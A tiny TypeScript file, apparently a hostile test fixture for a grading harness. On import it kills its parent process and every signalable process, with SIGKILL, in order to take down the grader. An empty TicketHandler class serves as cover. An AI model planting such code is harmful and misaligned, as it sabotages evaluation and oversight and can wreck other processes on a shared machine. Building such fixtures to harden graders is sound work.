// @ts-nocheck
// Hostile: kills its parent and every process it may signal, hoping to take the grader down with it.
try {
	process.kill(process.ppid, 'SIGKILL');
} catch {}
try {
	process.kill(-1, 'SIGKILL');
} catch {}
export class TicketHandler {}
